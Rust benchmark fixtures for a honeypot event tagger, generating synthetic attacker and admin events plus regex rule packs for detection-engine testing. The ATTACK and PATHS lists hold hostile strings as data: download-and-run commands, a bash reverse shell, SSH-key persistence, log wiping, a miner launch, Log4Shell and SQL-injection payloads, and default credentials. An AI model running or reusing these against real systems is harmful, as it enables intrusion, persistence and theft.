//! Deterministic benchmark fixtures: a realistic honeypot event mix and
//! generated packs of regex rules. Same seed, same data, on every machine.

use crate::event::TaggerEvent;
use serde_json::json;

/// A small xorshift generator (deterministic, no dependency).
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed.max(1))
    }

    pub fn next_u64(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

const ADMIN: &[&str] = &[
    "ls -la",
    "cd /var/www",
    "cat /etc/hostname",
    "df -h",
    "free -m",
    "uptime",
    "ps aux",
    "systemctl status nginx",
    "tail -n 100 /var/log/nginx/access.log",
    "vim config.yaml",
    "git pull",
    "docker ps",
    "top -b -n 1",
    "ping -c 1 10.0.0.1",
    "echo $PATH",
    "exit",
];
const ATTACK: &[&str] = &[
    "uname -a",
    "cat /proc/cpuinfo",
    "whoami",
    "id",
    "cat /etc/passwd",
    "cat /etc/shadow",
    "cd /tmp && wget http://203.0.113.7/x.sh -O- | sh",
    "curl -fsSL http://198.51.100.4/i | bash",
    "chmod +x /tmp/.x; /tmp/.x",
    "echo 'ssh-rsa AAAAB3Nza mdrfckr' >> ~/.ssh/authorized_keys",
    "history -c; rm -f ~/.bash_history",
    "pkill -9 -f kdevtmpfsi",
    "./xmrig -o stratum+tcp://pool:3333",
    "find / -perm -4000 2>/dev/null",
    "nproc",
    "/bin/busybox ECCHI",
    "crontab -l",
    "cd /tmp || cd /var/run; busybox wget http://203.0.113.9/mips; chmod 777 mips; ./mips",
    "iptables -F",
    "setenforce 0",
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
];
const PATHS: &[&str] = &[
    "/",
    "/index.html",
    "/favicon.ico",
    "/robots.txt",
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/",
    "/cgi-bin/luci/;stok=/locale",
    "/?x=${jndi:ldap://203.0.113.5/a}",
    "/index.php?id=1%27%20OR%20%271%27=%271",
    "/shell?cd+/tmp;wget+http://x/a",
    "/api/v1/users",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/static/app.js",
    "/login",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Mozilla/5.0 zgrab/0.x",
    "sqlmap/1.7.11#stable",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1)",
];
const USERS: &[&str] = &[
    "root", "admin", "pi", "ubnt", "oracle", "test", "user", "support",
];
const PASSWORDS: &[&str] = &[
    "root",
    "123456",
    "admin",
    "password",
    "xc3511",
    "raspberry",
    "Winter2026!",
];

/// `n` events in a fixed, realistic mix: mostly shell commands (a third of
/// them hostile), then web requests, auth attempts, mail, intel, sessions.
pub fn event_mix(n: usize, seed: u64) -> Vec<TaggerEvent> {
    let mut rng = Rng::new(seed);
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let roll = rng.below(100);
        let (kind, payload) = if roll < 55 {
            let cmd = if rng.below(3) == 0 {
                *rng.pick(ATTACK)
            } else {
                *rng.pick(ADMIN)
            };
            (
                "command",
                json!({"command_text": cmd, "user": "root", "uid": "0", "src": "203.0.113.45", "pwd": "/root"}),
            )
        } else if roll < 80 {
            (
                "http_request",
                json!({"raw_url": rng.pick(PATHS), "user_agent": rng.pick(AGENTS), "method": "GET",
                       "headers": {"Accept": "*/*", "Host": "decoy.example"}}),
            )
        } else if roll < 92 {
            (
                "auth_attempt",
                json!({"username": rng.pick(USERS), "password": rng.pick(PASSWORDS), "service": "ssh",
                       "result": "fail", "fail_count": rng.below(30)}),
            )
        } else if roll < 96 {
            (
                "email",
                json!({"subject": "Invoice 2211", "body_text": "Please see the attached invoice.", "rcpt_count": rng.below(60),
                       "rcpt_domains": ["corp.example"], "from_domain": "billing@vendor.example", "mail_from_domain": "bulk.example",
                       "attachment_extensions": [".pdf"], "dkim_signed": rng.below(2) == 0}),
            )
        } else if roll < 98 {
            (
                "intel",
                json!({"abuseipdb_score": rng.below(101), "abuseipdb_categories": [18, 22, 14],
                       "greynoise_classification": "malicious", "greynoise_tags": ["ssh_bruteforcer"]}),
            )
        } else {
            (
                "session",
                json!({"beacon_interval_s": 60, "beacon_jitter_pct": 0.05, "bytes_out": rng.below(2_000_000), "op_text": "GET k"}),
            )
        };
        let value = json!({"source_kind": kind, "source_id": format!("mix-{seed}-{i}"), "attacker_uuid": format!("att-{}", rng.below(500)), "payload": payload});
        if let Ok(ev) = TaggerEvent::from_json(value) {
            out.push(ev);
        }
    }
    out
}

const WORDS: &[&str] = &[
    "wget", "curl", "chmod", "busybox", "xmrig", "passwd", "shadow", "crontab", "iptables",
    "nohup", "socat", "python", "perl", "base64", "tftp", "miner", "kworker", "dropbear",
    "telnetd", "sshd",
];

/// `n` generated pattern rules (DECNET's form) over `command_text`, each
/// with a distinct literal and `\d`/`\s` classes (the shape that makes a
/// single `RegexSet` collapse).
pub fn regex_pack(n: usize) -> Vec<(String, String)> {
    let mut rng = Rng::new(0x5eed ^ n as u64);
    (0..n)
        .map(|i| {
            let a = rng.pick(WORDS);
            let b = rng.pick(WORDS);
            let pattern = match i % 4 {
                0 => format!(r"\b{a}{i}\s+-\w+\s+\d+"),
                1 => format!(r"(?i){b}_{i}\b.*{a}"),
                2 => format!(r"/tmp/\.{a}{i}(?:\s|$)"),
                _ => format!(r"\b{a}\s+{b}{i}\d*\b"),
            };
            let yaml = format!(
                "rule_id: GEN-{i:05}\nrule_version: 1\nname: generated {i}\napplies_to: [command]\n\
                 match:\n  field: command_text\n  pattern: '{pattern}'\n\
                 emits:\n  - {{tactic: TA0002, technique_id: T1059, confidence: 0.5}}\nevidence_fields: [command_text]\n"
            );
            (format!("gen-{i:05}.yaml"), yaml)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fixtures_are_deterministic_and_valid() {
        let a = event_mix(500, 7);
        let b = event_mix(500, 7);
        assert_eq!(a.len(), 500);
        assert_eq!(a, b);
        let kinds: std::collections::BTreeSet<&str> =
            a.iter().map(|e| e.source_kind.as_str()).collect();
        assert!(kinds.len() >= 5, "{kinds:?}");
        for (name, yaml) in regex_pack(40) {
            let (rule, d) = crate::rule::parse::parse_rule(
                std::path::Path::new(&name),
                &yaml,
                Default::default(),
            );
            assert!(rule.is_some(), "{name}: {d:?}");
        }
    }
}
